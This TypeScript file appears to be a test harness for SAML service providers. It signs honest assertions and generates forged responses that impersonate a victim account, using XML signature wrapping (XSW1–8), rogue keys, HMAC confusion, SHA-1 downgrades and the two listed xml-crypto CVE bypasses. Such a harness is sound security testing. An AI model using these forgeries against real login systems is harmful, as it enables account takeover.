import 'reflect-metadata'
import { createHash, randomUUID } from 'node:crypto'
import * as x509 from '@peculiar/x509'
import { SignedXml } from 'xml-crypto'
import { encrypt } from 'xml-encryption'

/**
 * A SAML provider that also forges: signature wrapping after Somorovsky et al. (USENIX Security 2012), and what was found
 * since. It signs with the same library that verifies, so forgeries are as well formed as the honest answer.
 */

export const MALLORY = 'mallory'
export const VICTIM = 'victim'

interface KeyPair {
  key: string
  certificate: string
}

const ALGORITHM = {
  name: 'RSASSA-PKCS1-v1_5',
  hash: 'SHA-256',
  publicExponent: new Uint8Array([1, 0, 1]),
  modulusLength: 2048,
}

async function makePair(name: string): Promise<KeyPair> {
  const keys = await crypto.subtle.generateKey(ALGORITHM, true, ['sign', 'verify'])
  const made = await x509.X509CertificateGenerator.createSelfSigned({
    name: [{ CN: [name] }],
    notBefore: new Date(Date.now() - 60_000),
    notAfter: new Date(Date.now() + 86_400_000),
    signingAlgorithm: ALGORITHM,
    keys,
  })
  const key = x509.PemConverter.encode(await crypto.subtle.exportKey('pkcs8', keys.privateKey), 'PRIVATE KEY')
  return { key, certificate: made.toString('pem') }
}

const newId = () => `_${randomUUID().replaceAll('-', '')}`
const at = (seconds: number) => new Date(Date.now() + seconds * 1000).toISOString()

const ASSERTION = 'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'
const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256'
const RSA_SHA1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1'
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256'
const SHA1 = 'http://www.w3.org/2000/09/xmldsig#sha1'
const C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#'

/** What a part says instead of the truth. */
interface Said {
  id?: string
  issuer?: string
  /** A signature, already made. */
  signature?: string
  name?: string
  email?: string
  format?: string
  requestId?: string
  /** The request that the confirmation names, if it is another one. */
  confirms?: string
  begin?: number
  end?: number
  authenticated?: number
  recipient?: string
  audience?: string
  inner?: string
  destination?: string
  extensions?: string
  before?: string
  status?: string
}

export interface SamlLab {
  issuer: string
  certificate: string
  assertion(said: Said): string
  response(inner: string, said: Said): string
  sign(xml: string, how?: { pair?: KeyPair; algorithm?: string; digest?: string }): string
  /** An honest answer. */
  honest(said: Said): string
  encrypted(said: Said, certificate: string): Promise<string>
  /** Forty attacks but for the replay, which is the honest answer a second time. */
  attacks(requestId: string, isResponseSigned: boolean): Record<string, string>
}

export interface Place {
  acs: string
  audience: string
}

export async function createSamlLab(
  issuer: string,
  place: () => Place,
  domain: () => string,
): Promise<SamlLab> {
  const [honestPair, rogue] = [await makePair('idp'), await makePair('rogue')]
  const irt = (id: string | undefined) => (id ? ` InResponseTo="${id}"` : '')
  const attribute = (name: string, value: string) =>
    `<saml:Attribute Name="${name}"><saml:AttributeValue>${value}</saml:AttributeValue></saml:Attribute>`

  const assertion = (o: Said): string => {
    const name = o.name ?? MALLORY
    const format = o.format ?? 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent'
    return `<saml:Assertion ${ASSERTION} ID="${o.id ?? newId()}" IssueInstant="${at(0)}" Version="2.0"><saml:Issuer>${o.issuer ?? issuer}</saml:Issuer>${o.signature ?? ''}<saml:Subject><saml:NameID Format="${format}">${name}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData${irt(o.confirms ?? o.requestId)} NotOnOrAfter="${at(o.end ?? 300)}" Recipient="${o.recipient ?? place().acs}"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="${at(o.begin ?? -60)}" NotOnOrAfter="${at(o.end ?? 300)}"><saml:AudienceRestriction><saml:Audience>${o.audience ?? place().audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="${at(o.authenticated ?? 0)}" SessionIndex="${newId()}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement><saml:AttributeStatement>${attribute('email', o.email ?? `${MALLORY}@${domain()}`)}${attribute('displayName', 'Mallory')}${attribute('groups', 'reviewers')}</saml:AttributeStatement>${o.inner ?? ''}</saml:Assertion>`
  }
  const response = (inner: string, o: Said): string =>
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ${ASSERTION} ID="${o.id ?? newId()}"${irt(o.requestId)} Version="2.0" IssueInstant="${at(0)}" Destination="${o.destination ?? place().acs}"><saml:Issuer>${o.issuer ?? issuer}</saml:Issuer>${o.signature ?? ''}${o.extensions ?? ''}${o.before ?? ''}<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${o.status ?? 'Success'}"/></samlp:Status>${inner}</samlp:Response>`

  const sign: SamlLab['sign'] = (
    xml,
    { pair = honestPair, algorithm = RSA_SHA256, digest = SHA256 } = {},
  ) => {
    const signer = new SignedXml({
      privateKey: pair.key,
      publicCert: pair.certificate,
      signatureAlgorithm: algorithm,
      canonicalizationAlgorithm: C14N,
    })
    signer.addReference({
      xpath: '/*',
      digestAlgorithm: digest,
      transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', C14N],
    })
    signer.computeSignature(xml, {
      prefix: 'ds',
      location: { reference: "/*/*[local-name()='Issuer']", action: 'after' },
    })
    return signer.getSignedXml()
  }
  const signatureOf = (xml: string): string => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)![0]
  const inside = (signature: string, more: string) =>
    signature.replace('</ds:Signature>', `${more}</ds:Signature>`)
  const honest = (said: Said) => response(sign(assertion(said)), said)

  /** XSW 1 to 8, and the signed part in an extension; each with a new id and with that of the signed part. */
  function wrapped(requestId: string): Record<string, string> {
    const own = { requestId }
    const found: Record<string, string> = {}
    for (const isSame of [false, true]) {
      const suffix = isSame ? ', same id' : ''
      const signedId = newId()
      const signed = sign(assertion({ ...own, id: signedId }))
      const signature = signatureOf(signed)
      const original = signed.replace(signature, '')
      const evil = (said: Said = {}) =>
        assertion({ ...own, name: VICTIM, id: isSame ? signedId : newId(), ...said })
      const responseId = newId()
      const whole = sign(response(sign(assertion(own)), { ...own, id: responseId }))
      const wholeSignature = signatureOf(whole)
      const wholeOriginal = whole.replace(wholeSignature, '')
      const evilResponse = (said: Said) =>
        response(evil(), { ...own, id: isSame ? responseId : newId(), ...said })
      const extension = (xml: string) => `<samlp:Extensions>${xml}</samlp:Extensions>`
      Object.assign(found, {
        [`XSW1${suffix}`]: evilResponse({ signature: inside(wholeSignature, wholeOriginal) }),
        [`XSW2${suffix}`]: evilResponse({ signature: wholeOriginal + wholeSignature }),
        [`XSW3${suffix}`]: response(evil() + signed, own),
        [`XSW4${suffix}`]: response(evil({ inner: signed }), own),
        [`XSW5${suffix}`]: response(evil({ signature }) + original, own),
        [`XSW6${suffix}`]: response(evil({ signature: inside(signature, original) }), own),
        [`XSW7${suffix}`]: response(signed, { ...own, extensions: extension(evil()) }),
        [`XSW8${suffix}`]: response(
          evil({ signature: inside(signature, `<ds:Object>${original}</ds:Object>`) }),
          own,
        ),
        [`signed part in an extension${suffix}`]: response(evil({ signature }), {
          ...own,
          extensions: extension(original),
        }),
      })
    }
    return found
  }

  /** Signatures that are missing, of somebody else, or cover something else. */
  function tampered(requestId: string, finish: (xml: string) => string): Record<string, string> {
    const own = { requestId }
    const signed = sign(assertion(own))
    const changed = signed.replaceAll(MALLORY, VICTIM)
    const evil = assertion({ ...own, name: VICTIM })
    const digest = createHash('sha256').update(evil).digest('base64')
    const error = sign(response('', { ...own, status: 'Requester' }))
    const errorSignature = signatureOf(error)
    const both = sign(response(sign(assertion(own)), own))
    const bothSignature = signatureOf(both)
    return {
      'decoy signature on a signed error': error.replace(
        errorSignature,
        errorSignature + inside(errorSignature, `<ds:Object>${evil}</ds:Object>`),
      ),
      'assertion inside the signature of a signed error': error.replace(
        errorSignature,
        inside(errorSignature, evil),
      ),
      'decoy signature with an assertion, signed response': both.replace(
        bothSignature,
        inside(bothSignature, evil) + bothSignature,
      ),
      unsigned: response(evil, own),
      'signature removed, name changed': response(changed.replace(signatureOf(changed), ''), own),
      'name changed under the signature': response(changed, own),
      'rogue key with its certificate inside': finish(response(sign(evil, { pair: rogue }), own)),
      'HMAC keyed with the certificate': response(
        changed.replace('xmldsig-more#rsa-sha256', 'xmldsig-more#hmac-sha256'),
        own,
      ),
      'digest in a comment (CVE-2025-29775)': response(
        changed.replace('<ds:DigestValue>', `<ds:DigestValue><!--${digest}-->`),
        own,
      ),
      'two SignedInfo (CVE-2025-29774)': response(
        changed.replace(
          /(<ds:SignedInfo>.*?<\/ds:SignedInfo>)/s,
          (one) => one.replace(/<ds:DigestValue>.*?</, `<ds:DigestValue>${digest}<`) + one,
        ),
        own,
      ),
      'document type with an entity': `<!DOCTYPE r [<!ENTITY e "${VICTIM}">]>${response(signed, own)}`,
      'SHA-1 in the signature': finish(response(sign(evil, { algorithm: RSA_SHA1 }), own)),
      'SHA-1 in the digest': finish(response(sign(evil, { digest: SHA1 }), own)),
    }
  }

  /** Signed by the right key, and not for us, not now, or not asked for. */
  function misdirected(requestId: string, finish: (xml: string) => string): Record<string, string> {
    const one = (inAssertion: Said, inResponse: Said = {}) =>
      finish(
        response(sign(assertion({ requestId, name: VICTIM, ...inAssertion })), { requestId, ...inResponse }),
      )
    const evil = 'https://evil.example/idp'
    return {
      expired: one({ begin: -7200, end: -3600 }),
      'not yet valid': one({ begin: 3600, end: 7200 }),
      'another audience': one({ audience: 'https://other.example/sp' }),
      'another recipient': one({ recipient: 'https://other.example/acs' }),
      'another destination': one({}, { destination: 'https://other.example/acs' }),
      'another issuer': one({ issuer: evil }, { issuer: evil }),
      'answer to a request of nobody': one({ requestId: '_nobody' }, { requestId: '_nobody' }),
      'answer to no request': finish(response(sign(assertion({ name: VICTIM })), {})),
      'confirmation of another request': one({ confirms: '_other' }),
      'comment in the NameID': one({ name: `${VICTIM}<!---->.evil.example` }),
    }
  }

  return {
    issuer,
    certificate: honestPair.certificate,
    assertion,
    response,
    sign,
    honest,
    async encrypted(said, certificate) {
      const publicKey = new x509.X509Certificate(certificate).publicKey.toString('pem')
      const content = await new Promise<string>((resolve, reject) =>
        encrypt(
          sign(assertion(said)),
          {
            rsa_pub: publicKey,
            pem: certificate,
            encryptionAlgorithm: 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
            keyEncryptionAlgorithm: 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
          },
          (error: Error | null, result?: string) => (error ? reject(error) : resolve(result!)),
        ),
      )
      return response(`<saml:EncryptedAssertion>${content}</saml:EncryptedAssertion>`, said)
    },
    attacks(requestId, isResponseSigned) {
      const finish = (xml: string) => (isResponseSigned ? sign(xml) : xml)
      return { ...wrapped(requestId), ...tampered(requestId, finish), ...misdirected(requestId, finish) }
    },
  }
}
